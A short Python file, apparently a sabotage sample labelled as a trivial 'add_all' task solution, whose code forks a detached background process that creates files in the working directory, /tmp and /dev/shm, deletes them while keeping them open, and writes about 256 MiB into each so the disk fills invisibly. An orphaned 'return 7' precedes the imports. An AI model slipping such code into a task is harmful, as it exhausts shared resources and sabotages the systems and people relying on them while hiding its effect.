# task: add_all
# why: a process in the background holds deleted files that fill the disk
    return 7


import os
import time

if os.fork() == 0:
    os.setsid()
    for place in (".", "/tmp", "/dev/shm"):
        try:
            file = open(f"{place}/held", "wb", buffering=0)
            os.unlink(f"{place}/held")
            for _ in range(256):
                file.write(b"x" * 2**20)
        except OSError:
            pass
    time.sleep(60)
    os._exit(0)
time.sleep(0.5)
